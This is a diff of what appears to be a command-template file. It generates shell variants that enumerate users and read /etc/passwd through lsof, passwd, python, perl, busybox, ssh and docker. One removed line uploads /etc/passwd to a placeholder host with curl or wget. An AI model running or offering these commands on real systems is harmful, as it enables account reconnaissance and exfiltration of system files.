@@ -62,7 +62,6 @@ lsof-user bash: username=$(id -u -n) && lsof -u $username
 passwd-status bash: «passwd -S -a¦sudo passwd -Sa¦chage -l ‹first›»; cat /etc/passwd
 python-pwd bash: «python3¦python» -c "import pwd; «print([u.pw_name for u in pwd.getpwall()])¦[print(p) for p in pwd.getpwall()]»"
 perl-passwd bash: perl -«ne 'print if /bash/'¦F: -lane 'print $F[0]'¦pe 's/:.*//'» /etc/passwd
-curl-passwd bash: «curl¦wget --post-file» «-F "f=@/etc/passwd"¦file:///etc/passwd¦--data-binary @/etc/passwd¦=/etc/passwd» http://‹ip›/‹name›
 busybox-passwd bash: busybox «cat /etc/passwd¦cut -d: -f1 /etc/passwd¦awk -F: '{print $1}' /etc/passwd¦grep sh$ /etc/passwd»
 ssh-passwd bash: ssh ‹first›@‹ip› '«cat /etc/passwd¦getent passwd¦cut -d: -f1 /etc/passwd»'
 docker-passwd bash: «docker¦podman» exec «-it ¦»‹word› «cat /etc/passwd¦getent passwd»
